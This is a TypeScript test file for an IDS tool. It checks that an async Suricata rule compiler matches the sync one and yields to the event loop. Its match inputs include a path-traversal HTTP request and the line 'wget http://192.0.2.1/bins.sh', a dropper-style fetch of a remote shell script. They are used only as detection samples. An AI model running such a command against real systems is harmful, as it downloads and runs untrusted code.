// compileSignaturesAsync: the same result as compileSignatures, in slices that give the event loop back.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { compileSignatures, compileSignaturesAsync, ruleVars, type RuleSource } from '../../../src/classify/suricata/index.ts';
import { adversarialPayloads } from '../classify/adversarial.ts';
import { HOME, record } from './helpers.ts';

const RULES = readFileSync(new URL('../../fixtures/signatures/prefilter-corpus.rules', import.meta.url), 'latin1');
const sources = (): RuleSource[] => [
  { file: 'a.rules', text: RULES, ruleset: 'test' },
  { file: 'b.rules', text: 'alert tcp any any -> any any (msg:"bad"; content:"x"; bogus; sid:900;)\nalert tcp any any -> any any (msg:"skip"; flow:to_client; sid:901;)\n', ruleset: 'test' },
];
const opts = { vars: ruleVars([HOME]) };

test('compileSignaturesAsync gives what compileSignatures gives', async () => {
  const sync = compileSignatures(sources(), opts);
  let yields = 0;
  const async = await compileSignaturesAsync(sources(), { ...opts, sliceMs: 0, yieldTo: async () => void yields++ });
  assert.deepEqual(async.stats, sync.stats);
  assert.deepEqual(async.skipped, sync.skipped);
  assert.deepEqual(async.errors, sync.errors);
  assert.deepEqual([...async.skippedByReason], [...sync.skippedByReason]);
  for (const [, p] of adversarialPayloads()) assert.deepEqual(async.signatures.match(record(p)), sync.signatures.match(record(p)));
  for (const p of ['GET /admin/../x HTTP/1.0\r\nHost: www.example.com\r\n\r\n', 'login admin', 'wget http://192.0.2.1/bins.sh']) {
    assert.deepEqual(async.signatures.match(record(p)), sync.signatures.match(record(p)), p);
  }
  // with no time allowed per slice, it yields between every piece of work: per file and every few statements
  assert.ok(yields > sync.stats.total / 32, `${yields} yields for ${sync.stats.total} statements`);
});

test('compileSignaturesAsync lets other work run between its slices (default setImmediate)', async () => {
  let ticks = 0;
  const timer = setInterval(() => ticks++, 0);
  const many = Array.from({ length: 40 }, (_, k) => ({ file: `f${k}.rules`, text: RULES.replace(/sid:(\d+);/g, (_, n: string) => `sid:${Number(n) + k * 1000};`), ruleset: 'test' }));
  try {
    const c = await compileSignaturesAsync(many, { ...opts, sliceMs: 0 });
    assert.equal(c.stats.errors, 0);
  } finally {
    clearInterval(timer);
  }
  assert.ok(ticks > 0, 'a timer ran during the compile');
});
